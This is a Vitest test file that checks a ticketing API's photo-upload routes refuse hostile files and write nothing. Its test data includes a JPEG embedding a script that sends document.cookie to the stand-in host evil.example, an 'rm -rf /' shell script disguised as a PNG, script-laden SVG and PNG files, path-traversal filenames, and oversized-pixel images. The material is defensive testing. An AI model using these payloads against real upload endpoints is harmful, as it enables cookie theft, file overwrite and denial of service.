import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TICKET_MESSAGES as M, imageTooLargeMessage } from '@fsm/contracts';
import { craftedHeif, craftedJpeg, craftedPng, craftedWebp } from '@fsm/contracts/test-support';
import { INVALID_FILENAME, INVALID_FORM, PHOTO_TOO_LARGE } from '../../src/files/uploads.js';
import { createApiHarness, type ApiHarness, type TestUser } from '../../src/test-support/api-harness.js';
import { eventStoreState, storedFiles } from './state-snapshot.js';
import { PNG_BYTES, createQrCode, createWorld, openTicketId, requester, solvedCaptcha, ticketStream, visitBody, type World } from '../tickets-fixtures.js';

/*
 * Item 8 of issue 12: hostile uploads on both routes that take a photo (the
 * manual form, signed in; the public QR form, with a solved captcha). Each is
 * refused with a French 4xx and writes nothing: the file store holds the same
 * files and the event store the same head (no ticket, no num_chrono drawn).
 */

interface Part {
  name?: string;
  bytes: Buffer;
  filename: string;
  type?: string;
}

let h: ApiHarness;
let world: World;
let admin: TestUser;
let qrKey: string;
let ipCount = 0;
const nextIp = () => `198.51.100.${++ipCount}`;
const figures: { route: string; upload: string; status: number; error: string }[] = [];

const filesInStore = () => storedFiles(h);

async function form(fields: Record<string, string>, parts: Part[]) {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) data.append(name, value);
  for (const part of parts) data.append(part.name ?? 'photo', new Blob([new Uint8Array(part.bytes)], { type: part.type ?? 'image/png' }), part.filename);
  const request = new Request('http://localhost/', { method: 'POST', body: data });
  return { payload: Buffer.from(await request.arrayBuffer()), headers: { 'content-type': request.headers.get('content-type') ?? '' } };
}

/** The filename as the browser would send it, unescaped (undici's FormData would keep it, but be explicit). */
function withRawFilename(payload: Buffer, from: string, to: string): Buffer {
  return Buffer.from(payload.toString('latin1').replace(`filename="${from}"`, `filename="${to}"`), 'latin1');
}

type Send = (parts: Part[], rename?: [string, string]) => Promise<{ statusCode: number; json: () => { error?: string } }>;

const manual: Send = async (parts, rename) => {
  const body = await form({ installation_id: world.installationId, ...requester, probleme: 'Photo piégée' }, parts);
  return h.request(admin, { method: 'POST', url: '/api/tickets/manual/ticket-create', headers: body.headers, payload: rename ? withRawFilename(body.payload, ...rename) : body.payload });
};

const publicForm: Send = async (parts, rename) => {
  const ip = nextIp();
  const captcha = await solvedCaptcha(h, ip);
  const body = await form({ key: qrKey, ...requester, probleme: 'Photo piégée', 'g-recaptcha-response': captcha }, parts);
  return h.request(null, { method: 'POST', url: '/api/public/ticket-create', remoteAddress: ip, headers: body.headers, payload: rename ? withRawFilename(body.payload, ...rename) : body.payload });
};

const jpegWithScript = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]), Buffer.alloc(200, 1), Buffer.from('<script>fetch("https://evil.example/"+document.cookie)</script>'), Buffer.from([0xff, 0xd9])]);
const pngTextChunk = (() => {
  // A tEXt chunk (CRC not checked by us, the chunk walk only needs lengths) inside an otherwise valid PNG, before IEND.
  const text = Buffer.from('Comment\u0000<html><body onload="alert(1)">');
  const chunk = Buffer.concat([Buffer.alloc(4), Buffer.from('tEXt'), text, Buffer.alloc(4)]);
  chunk.writeUInt32BE(text.length, 0);
  const iend = PNG_BYTES.length - 12;
  return Buffer.concat([PNG_BYTES.subarray(0, iend), chunk, PNG_BYTES.subarray(iend)]);
})();

const OVERSIZED: { label: string; bytes: Buffer; type: string }[] = [
  { label: '12000×12000 PNG', bytes: craftedPng(12_000, 12_000), type: 'image/png' },
  { label: '12000×12000 JPEG', bytes: craftedJpeg(12_000, 12_000), type: 'image/jpeg' },
  { label: '12000×12000 progressive JPEG after 60 KB of EXIF', bytes: craftedJpeg(12_000, 12_000, { sof: 0xc2, exifBytes: 60_000 }), type: 'image/jpeg' },
  { label: '12000×12000 WebP', bytes: craftedWebp(12_000, 12_000, 'VP8X'), type: 'image/webp' },
  { label: '16383×16383 lossless WebP', bytes: craftedWebp(16_383, 16_383, 'VP8L'), type: 'image/webp' },
  { label: '12000×12000 HEIC', bytes: craftedHeif(12_000, 12_000, 'heic'), type: 'image/heic' },
  { label: '12000×12000 AVIF', bytes: craftedHeif(12_000, 12_000, 'avif'), type: 'image/avif' },
  { label: '20000×400 PNG strip', bytes: craftedPng(20_000, 400), type: 'image/png' },
];

const HOSTILE: { label: string; parts: () => Part[]; rename?: [string, string]; error: string; statuses?: number[] }[] = [
  { label: 'wrong magic bytes (a shell script named .png)', parts: () => [{ bytes: Buffer.from('#!/bin/sh\nrm -rf /\n'), filename: 'photo.png' }], error: M.notAnImage },
  { label: 'a PDF sent as image/jpeg', parts: () => [{ bytes: Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF'), filename: 'photo.jpg', type: 'image/jpeg' }], error: M.notAnImage },
  { label: 'an SVG with a script', parts: () => [{ bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), filename: 'photo.svg', type: 'image/svg+xml' }], error: M.notAnImage },
  { label: 'a PNG with a script appended', parts: () => [{ bytes: Buffer.concat([PNG_BYTES, Buffer.from('<script>alert(document.cookie)</script>')]), filename: 'photo.png' }], error: M.notAnImage },
  { label: 'a PNG with bytes after IEND', parts: () => [{ bytes: Buffer.concat([PNG_BYTES, Buffer.from('PK\u0003\u0004 a zip hides here')]), filename: 'photo.png' }], error: M.notAnImage },
  { label: 'a PNG with HTML in a text chunk', parts: () => [{ bytes: pngTextChunk, filename: 'photo.png' }], error: M.notAnImage },
  { label: 'a JPEG with a script inside', parts: () => [{ bytes: jpegWithScript, filename: 'photo.jpg', type: 'image/jpeg' }], error: M.notAnImage },
  { label: 'a 9 MB file', parts: () => [{ bytes: Buffer.concat([PNG_BYTES.subarray(0, 33), Buffer.alloc(9 * 1024 * 1024, 7)]), filename: 'photo.png' }], error: PHOTO_TOO_LARGE },
  { label: '500 files in one request', parts: () => Array.from({ length: 500 }, (_, i) => ({ bytes: PNG_BYTES, filename: `photo-${i}.png` })), error: INVALID_FORM },
  { label: 'two photos', parts: () => [{ bytes: PNG_BYTES, filename: 'a.png' }, { bytes: PNG_BYTES, filename: 'b.png' }], error: INVALID_FORM },
  { label: 'a file under another field name', parts: () => [{ name: 'avatar', bytes: PNG_BYTES, filename: 'a.png' }], error: 'Fichier inattendu.' },
  { label: "a filename with '../'", parts: () => [{ bytes: PNG_BYTES, filename: 'photo.png' }], rename: ['photo.png', '../../../etc/cron.d/photo.png'], error: INVALID_FILENAME },
  { label: "a filename with '..\\'", parts: () => [{ bytes: PNG_BYTES, filename: 'photo.png' }], rename: ['photo.png', '..\\..\\windows\\photo.png'], error: INVALID_FILENAME },
  { label: 'an absolute filename', parts: () => [{ bytes: PNG_BYTES, filename: 'photo.png' }], rename: ['photo.png', '/var/lib/fsm/files/photo.png'], error: INVALID_FILENAME },
  { label: "a filename that is '..'", parts: () => [{ bytes: PNG_BYTES, filename: 'photo.png' }], rename: ['photo.png', '..'], error: INVALID_FILENAME },
  // Issue 17: small files whose headers declare more pixels than any phone takes, refused before anything decodes them.
  ...OVERSIZED.map(({ label, bytes, type }) => {
    const [width, height] = label.split(' ')[0]!.split('×').map(Number) as [number, number];
    return { label: `a ${label} (${bytes.length} bytes)`, parts: () => [{ bytes, filename: `photo.${type.split('/')[1]}`, type }], error: imageTooLargeMessage({ width, height }) };
  }),
  { label: 'a JPEG whose frame header cannot be found', parts: () => [{ bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x01, 0x01]), Buffer.alloc(4096, 1)]), filename: 'photo.jpg', type: 'image/jpeg' }], error: M.notAnImage },
];

beforeAll(async () => {
  h = await createApiHarness('api_security_uploads');
  world = await createWorld(h);
  admin = await h.createUser({ role: 'admin', agenceId: world.agenceId });
  qrKey = await createQrCode(h, world.agenceId, world.installationId);
}, 60_000);

afterAll(async () => {
  console.info(`uploads: ${JSON.stringify(figures.map((f) => `${f.route} ${f.upload} → ${f.status}`))}`);
  await h?.close();
});

describe.each([
  ['manual form', manual],
  ['public QR form', publicForm],
] as const)('%s', (route, send) => {
  it.each(HOSTILE)('refuses $label in French and writes nothing', async ({ label, parts, rename, error }) => {
    const files = await filesInStore();
    const head = await eventStoreState(h);
    const res = await send(parts(), rename);
    figures.push({ route, upload: label, status: res.statusCode, error: res.json().error ?? '' });
    expect(res.statusCode).toBeGreaterThanOrEqual(400);
    expect(res.statusCode).toBeLessThan(500);
    expect(res.json().error).toBe(error);
    expect(await filesInStore()).toEqual(files);
    expect(await eventStoreState(h)).toBe(head);
  }, 60_000);

  it.each([
    ['48 Mpx iPhone HEIC', craftedHeif(8064, 6048, 'heic'), 'image/heic', 'heic'],
    ['50 Mpx Android JPEG', craftedJpeg(8160, 6144, { exifBytes: 30_000 }), 'image/jpeg', 'jpg'],
    ['12 Mpx WebP', craftedWebp(4032, 3024), 'image/webp', 'webp'],
  ])('accepts a %s, the largest a phone sends untouched', async (_label, bytes, type, extension) => {
    const res = await send([{ bytes, filename: `photo.${extension}`, type }]);
    expect(res.statusCode).toBe(201);
    expect(await filesInStore()).toContain(`${createHash('sha256').update(bytes).digest('hex')}.${extension}`);
  }, 60_000);

  it('still accepts a plain PNG, which adds exactly one file (the store is really watched)', async () => {
    const before = await filesInStore();
    const res = await send([{ bytes: PNG_BYTES, filename: 'photo.png' }]);
    expect(res.statusCode).toBe(201);
    const after = await filesInStore();
    // Content-addressed: the same bytes again would add nothing, so compare with what was there.
    expect(after.length - before.length).toBeLessThanOrEqual(1);
    expect(after.every((name) => /^[0-9a-f]{64}\.png$/.test(name) || before.includes(name))).toBe(true);
  }, 60_000);
});

describe('signatures of a closure or a re-intervention', () => {
  let tech: TestUser;
  const dataUrl = (bytes: Buffer) => `data:image/png;base64,${bytes.toString('base64')}`;

  beforeAll(async () => {
    tech = await h.createUser({ role: 'technicien', agenceId: world.agenceId });
  });

  async function takenTicket(): Promise<string> {
    const id = await openTicketId(h, admin, world.installationId);
    const taken = await h.request(tech, { method: 'PATCH', url: `/api/tickets/${id}`, payload: { statut: 'en_cours', technicien_id: tech.id } });
    expect(taken.statusCode).toBe(200);
    return id;
  }

  it.each([
    ['client', { signature_client: dataUrl(craftedPng(12_000, 12_000)) }, { width: 12_000, height: 12_000 }],
    // The client's is fine (and new to the store) and checked first: it must not be stored either.
    ['technician', { signature_client: dataUrl(craftedPng(1074, 481, { colorType: 2 })), signature_technicien: dataUrl(craftedPng(1074, 20_000, { colorType: 2 })) }, { width: 1074, height: 20_000 }],
  ] as const)('refuses a %s signature declaring too many pixels, in French, and stores nothing', async (_who, signatures, size) => {
    const id = await takenTicket();
    for (const [method, url] of [
      ['PATCH', `/api/tickets/${id}/close`],
      ['POST', `/api/tickets/${id}/intervention`],
    ] as const) {
      const files = await filesInStore();
      const stream = await ticketStream(h, id);
      const res = await h.request(tech, { method, url, payload: visitBody(signatures) });
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe(imageTooLargeMessage(size));
      expect(await filesInStore()).toEqual(files);
      expect(await ticketStream(h, id)).toEqual(stream);
    }
  }, 60_000);

  it('still takes what the signature pad draws', async () => {
    const id = await takenTicket();
    const pad = dataUrl(craftedPng(1074, 480));
    const res = await h.request(tech, { method: 'PATCH', url: `/api/tickets/${id}/close`, payload: visitBody({ signature_client: pad, signature_technicien: pad }) });
    expect(res.statusCode).toBe(200);
  }, 60_000);
});
